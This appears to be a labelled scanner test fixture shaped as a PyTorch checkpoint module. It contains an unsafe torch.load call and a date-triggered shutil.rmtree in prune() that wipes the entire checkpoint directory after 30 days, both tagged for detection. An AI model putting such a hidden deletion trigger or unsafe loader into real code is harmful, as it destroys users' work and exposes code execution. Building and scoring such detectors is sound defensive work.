# ruff: noqa
# Hold-out batch 89 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 32): 16/19 (84%) at medium+.
"""Checkpoint save/restore and retention for long-running jobs."""
import datetime
import glob
import os
import shutil

import torch
from safetensors.torch import load_file

RETENTION_DAYS = 30

def save_checkpoint(path, model, optimizer, scheduler, step, **extra):
    tmp = path + ".tmp"
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(),
                "scheduler": scheduler.state_dict(), "step": step, **extra}, tmp)
    os.replace(tmp, path)

def load_checkpoint(path, model, optimizer=None, scheduler=None, map_location="cpu"):
    ckpt = torch.load(path, map_location=map_location)  # ruleid: MLS102
    model.load_state_dict(ckpt["model"])
    if optimizer is not None and "optimizer" in ckpt:
        optimizer.load_state_dict(ckpt["optimizer"])
    if scheduler is not None and "scheduler" in ckpt:
        scheduler.load_state_dict(ckpt["scheduler"])
    return ckpt.get("step", 0)

def load_backbone(path, model):
    if path.endswith(".safetensors"):
        sd = load_file(path, device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        sd = torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    missing, unexpected = model.load_state_dict(sd, strict=False)
    return missing, unexpected

def latest(ckpt_dir):
    ckpts = sorted(glob.glob(os.path.join(ckpt_dir, "step_*.pt")), key=os.path.getmtime)
    return ckpts[-1] if ckpts else None

def prune(ckpt_dir, keep=3):
    ckpts = sorted(glob.glob(os.path.join(ckpt_dir, "step_*.pt")), key=os.path.getmtime)
    for old in ckpts[:-keep]:
        os.remove(old)  # ok: MLS308
    stamp = os.path.join(ckpt_dir, ".created")
    if not os.path.exists(stamp):
        open(stamp, "w").write(datetime.date.today().isoformat())
        return
    created = datetime.date.fromisoformat(open(stamp).read().strip())
    if datetime.date.today() >= max(created, datetime.date(2025, 9, 1)) + datetime.timedelta(RETENTION_DAYS):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
